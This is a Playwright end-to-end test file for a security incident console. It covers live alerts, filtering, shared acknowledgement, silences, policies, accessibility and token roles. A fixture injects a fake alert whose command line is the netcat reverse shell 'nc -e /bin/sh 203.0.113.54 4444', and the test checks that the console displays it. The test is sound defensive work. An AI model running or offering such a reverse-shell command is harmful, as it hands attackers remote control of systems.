// The console in a real browser, on the built product, as operators meet it.
import { afterAll, afterEach, beforeAll, expect, it } from '@jest/globals';
import { createRequire } from 'node:module';
import { describeReal } from '@tocsin/testing';
import type { Browser, Page } from 'playwright-core';
import { report } from './scene.js';
import { PATIENCE_MS, openOperator, startBrowser, startProduct, type Operator, type OperatorOptions, type Product } from './stack.js';

const FIRST_LOAD_MAX_BYTES = 250 * 1024;
const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
const PAGES = ['/', '/approvals', '/actions', '/subscriptions', '/dead-letters', '/silences', '/policies'];

describeReal('chromium', 'the console', () => {
  let browser: Browser;
  let product: Product;
  const operators: Operator[] = [];

  beforeAll(async () => {
    [browser, product] = await Promise.all([startBrowser(), startProduct({ demo: true })]);
  }, 3 * PATIENCE_MS);
  afterAll(async () => {
    await browser.close();
    await product.close();
  });
  afterEach(async () => {
    for (const { context } of operators.splice(0)) await context.close();
  });

  const open = async (path: string, options: OperatorOptions = {}, url = product.url): Promise<Operator> => {
    const operator = await openOperator(browser, url, options);
    operators.push(operator);
    await operator.page.goto(path);
    return operator;
  };
  const row = (page: Page, title: string) => page.locator('.list li', { hasText: title }).first();
  const shell = (workload: string): Promise<void> =>
    report(product.url, {
      rule: 'Netcat Remote Code Execution in Container',
      priority: 'Critical',
      output: 'Netcat runs inside a container',
      time: new Date().toISOString(),
      output_fields: {
        'k8s.ns.name': workload,
        'k8s.pod.name': 'web-6d5f7c9b8d-x2lqp',
        'proc.name': 'nc',
        'proc.cmdline': 'nc -e /bin/sh 203.0.113.54 4444',
      },
    });

  it(
    'shows an attack while it happens, without a request to anybody else',
    async () => {
      const { page, strayed, complaints } = await open('/');
      await row(page, 'Several stages of an attack').waitFor();
      await page.getByText('Live', { exact: true }).waitFor();
      await shell('appears');
      await row(page, 'Reverse shell (appears/web)').waitFor();
      await row(page, 'Reverse shell (appears/web)').click();
      await page.getByRole('heading', { level: 1, name: 'Reverse shell (appears/web)' }).waitFor();
      await page
        .locator('.node', { hasText: '203.0.113.54' })
        .or(page.locator('.node', { hasText: 'appears/web' }))
        .first()
        .waitFor();
      await page.getByText('nc -e /bin/sh 203.0.113.54 4444').first().waitFor();
      expect({ strayed, complaints }).toEqual({ strayed: [], complaints: [] });
    },
    3 * PATIENCE_MS,
  );

  it(
    'loads first with less than 250 KB',
    async () => {
      const operator = await openOperator(browser, product.url);
      operators.push(operator);
      const sizes: Promise<number>[] = [];
      operator.page.on('requestfinished', (request) => sizes.push(request.sizes().then((size) => size.responseBodySize)));
      await operator.page.goto('/', { waitUntil: 'networkidle' });
      const loaded = (await Promise.all(sizes)).reduce((sum, size) => sum + size, 0);
      expect(loaded).toBeGreaterThan(10_000);
      expect(loaded).toBeLessThan(FIRST_LOAD_MAX_BYTES);
    },
    2 * PATIENCE_MS,
  );

  it(
    'keeps filters in the address, and moves, filters and acknowledges by keys',
    async () => {
      await shell('keys');
      const { page } = await open('/?severity=critical', { name: 'ann' });
      await row(page, 'Reverse shell (keys/web)').waitFor();
      await page.keyboard.press('/');
      await page.keyboard.type('keys');
      await page.keyboard.press('Enter');
      await page.keyboard.press('Escape');
      await page.waitForURL('**/?severity=critical&namespace=keys');
      // The list of this filter, and not that of the one before.
      await page.getByText('1 incident', { exact: true }).waitFor();
      await page.keyboard.press('j');
      await page.locator('.list li.active').waitFor();
      await page.keyboard.press('a');
      await page.locator('.list li', { hasText: 'Acknowledged' }).waitFor();
      await page.keyboard.press('Enter');
      await page.waitForURL('**/incidents/*');
      await page.getByText('Acknowledged by ann').waitFor();
      await page.goBack();
      expect(new URL(page.url()).search).toBe('?severity=critical&namespace=keys');
    },
    2 * PATIENCE_MS,
  );

  it(
    'shows one operator what the other does',
    async () => {
      await shell('together');
      const ann = await open('/?namespace=together', { name: 'ann' });
      const bob = await open('/?namespace=together', { name: 'bob' });
      for (const { page } of [ann, bob]) await row(page, 'Reverse shell (together/web)').click();
      await ann.page.getByRole('button', { name: 'Acknowledge' }).click();
      await bob.page.getByText('Acknowledged by ann').waitFor();
      await bob.page.getByRole('button', { name: 'Note…' }).click();
      await bob.page.getByLabel('Note; it stays').fill('that was the drill');
      await bob.page.getByRole('button', { name: 'Add the note' }).click();
      await ann.page.getByText('that was the drill').waitFor();
      await ann.page.getByRole('button', { name: 'Resolve…' }).click();
      await ann.page.getByLabel('Benign').check();
      await ann.page.getByRole('button', { name: 'Resolve', exact: true }).click();
      await bob.page.getByRole('button', { name: 'Reopen' }).click();
      await ann.page.locator('.incident-marks', { hasText: 'Open' }).waitFor();
      await ann.page.getByText('Reopened by bob').waitFor();
    },
    3 * PATIENCE_MS,
  );

  it(
    'stops all response on every page until somebody resumes it, and asks why',
    async () => {
      const { page } = await open('/actions', { name: 'ann' });
      await page.getByRole('button', { name: 'Stop all response…' }).click();
      await page.getByLabel('Why; it stays on record').fill('an upgrade');
      await page.getByRole('button', { name: 'Stop all', exact: true }).click();
      await page.getByText('All response is stopped').waitFor();
      const other = await open('/silences', { name: 'bob' });
      await other.page.getByText('by ann').waitFor();
      await other.page.getByRole('button', { name: 'Resume…' }).click();
      await other.page.getByLabel('Why; it stays on record').fill('it is over');
      await other.page.getByRole('button', { name: 'Resume', exact: true }).click();
      await page.getByText('All response is stopped').waitFor({ state: 'detached' });
    },
    2 * PATIENCE_MS,
  );

  it(
    'shows which policies are in force, how often they were hit, and what they say',
    async () => {
      const { page } = await open('/policies');
      await page.locator('.rows li', { hasText: 'privilege-escalation-chain' }).getByText('incident').waitFor();
      await page.getByRole('button', { name: 'Subscriptions', exact: true }).click();
      await page.getByText('No such document').waitFor();
      await page.getByRole('button', { name: 'Rules', exact: true }).click();
      await page.getByLabel('Search by name').fill('reverse-shell');
      await page.locator('.rows li', { hasText: 'privilege-escalation-chain' }).waitFor({ state: 'detached' });
      expect(page.url()).toContain('/policies?kind=CorrelationRule&search=reverse-shell');
      await page.locator('.rows li', { hasText: 'reverse-shell' }).first().getByRole('button').click();
      await page.getByRole('dialog').getByText('kind: CorrelationRule').waitFor();
    },
    3 * PATIENCE_MS,
  );

  it(
    'makes and ends a silence, and tells what is wrong with one',
    async () => {
      const { page } = await open('/silences', { name: 'ann' });
      await page.getByRole('button', { name: 'New silence…' }).click();
      await page.getByLabel('Which incidents').fill('incident.nothing == 1');
      await page.getByLabel('Why', { exact: true }).fill('planned work');
      await page.getByRole('button', { name: 'Silence', exact: true }).click();
      await page.locator('.toast.bad').waitFor();
      await page.getByLabel('Which incidents').fill('incident.rule.name == "port-scan"');
      await page.getByRole('button', { name: 'Silence', exact: true }).click();
      await page.getByText('planned work · ann').waitFor();
      await page.getByRole('button', { name: 'End it' }).click();
      await page.locator('.rows li', { hasText: 'Over' }).waitFor();
    },
    2 * PATIENCE_MS,
  );

  it.each([
    ['light', {}],
    ['dark', { theme: 'dark' }],
    ['on a phone', { phone: true }],
  ] as const)(
    'has nothing that keeps people out, %s',
    async (_look, options) => {
      const { page } = await open('/', options);
      await page.locator('.list li').first().waitFor();
      const incident = (await row(page, 'Several stages of an attack').locator('a').getAttribute('href')) ?? '';
      for (const path of [...PAGES, incident]) {
        await page.goto(path);
        await page.locator('h1').waitFor();
        await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
        expect({ path, violations: await axe(page) }).toEqual({ path, violations: [] });
      }
    },
    3 * PATIENCE_MS,
  );

  it(
    'asks to sign in when a session has ended, and is back where it was; a role may not do more than it may',
    async () => {
      const bootstrap = 'the-token-of-this-test';
      const guarded = await startProduct({ config: { api: { authentication: { token: { env: 'API_TOKEN' } } } }, env: { API_TOKEN: bootstrap } });
      try {
        const api = async (method: string, path: string, body?: object): Promise<{ id: string; token: string }> => {
          const headers = { authorization: `Bearer ${bootstrap}`, ...(body !== undefined && { 'content-type': 'application/json' }) };
          const response = await fetch(`${guarded.url}${path}`, { method, headers, ...(body !== undefined && { body: JSON.stringify(body) }) });
          if (!response.ok) throw new Error(`${method} ${path} was answered ${response.status}: ${await response.text()}`);
          return (await response.json()) as { id: string; token: string };
        };
        const operator = await api('POST', '/v1/tokens', { name: 'ann', role: 'operator', person: 'ann' });
        const viewer = await api('POST', '/v1/tokens', { name: 'victor', role: 'viewer', person: 'victor' });
        const { page } = await open('/dead-letters?stage=decode', {}, guarded.url);
        const signIn = async (token: string): Promise<void> => {
          await page.getByLabel('Token').fill(token);
          await page.getByRole('button', { name: 'Sign in' }).click();
        };
        await signIn('a-wrong-token');
        await page.getByRole('alert').waitFor();
        await signIn(operator.token);
        await page.getByText('No dead letters').waitFor();

        await api('DELETE', `/v1/tokens/${operator.id}`);
        await page.getByText('Your session has ended').waitFor();
        expect(await axe(page)).toEqual([]);
        await signIn(viewer.token);
        await page.getByText('No dead letters').waitFor();
        expect(new URL(page.url()).pathname + new URL(page.url()).search).toBe('/dead-letters?stage=decode');

        await page.getByRole('link', { name: 'Silences' }).click();
        const make = page.getByRole('button', { name: 'New silence…' });
        await make.waitFor();
        expect(await make.getAttribute('aria-disabled')).toBe('true');
        expect(await make.getAttribute('title')).toBe('It needs the role operator; you are viewer.');
        await make.dispatchEvent('click');
        expect(await page.locator('dialog').count()).toBe(0);
      } finally {
        await guarded.close();
      }
    },
    4 * PATIENCE_MS,
  );
});

interface AxeResult {
  violations: { id: string; nodes: { html: string; failureSummary?: string }[] }[];
}

/** What axe finds wrong, in short. */
async function axe(page: Page): Promise<string[]> {
  // By the debugger, not as an element: the policy of the pages allows no script of ours.
  const { readFile } = await import('node:fs/promises');
  await page.evaluate(await readFile(AXE, 'utf8'));
  const { violations } = await page.evaluate(() => (globalThis as unknown as { axe: { run(): Promise<AxeResult> } }).axe.run());
  return violations.flatMap(({ id, nodes }) =>
    nodes.slice(0, 3).map(({ html, failureSummary = '' }) => `${id}: ${html.slice(0, 160)} ${failureSummary}`),
  );
}
